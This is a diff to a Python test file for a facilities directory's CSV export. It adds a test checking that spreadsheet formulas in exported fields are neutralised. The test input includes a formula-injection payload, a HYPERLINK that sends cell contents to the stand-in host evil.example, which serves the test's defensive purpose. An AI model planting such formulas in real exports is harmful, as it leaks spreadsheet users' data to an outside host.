@@ -58,7 +58,7 @@ def test_facility_with_history(client, services):
 
 def test_exports_carry_licence_attribution_and_history(client, services):
     r = client.get("/api/facilities.csv", {"include_closed": "true"})
-    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))
+    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
     assert len(rows) == 4
     post = next(row for row in rows if row["name"] == "Post")
     assert post["licence"] == "CC0 1.0" and post["attribution"] == "Synthetic demo data, not real"
@@ -111,3 +111,12 @@ def test_opening_hours_are_shown_in_the_page_language(client, services):
     fac.save()
     assert "lun-ven 09:00-12:00 · sam 10:00-12:00" in client.get(f"/fr/services/{fac.pk}/").content.decode()
     assert "ma-vr 09:00-12:00 · za 10:00-12:00" in client.get(f"/nl/services/{fac.pk}/").content.decode()
+
+
+def test_csv_export_defuses_spreadsheet_formulas(client, services):
+    fac = services["bakery"]
+    fac.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    fac.address = "@SUM(1+1)"
+    fac.save()
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/facilities.csv", {"categories": "bakery"}).content.decode())))
+    assert rows[0]["name"].startswith("'=") and rows[0]["address"] == "'@SUM(1+1)"
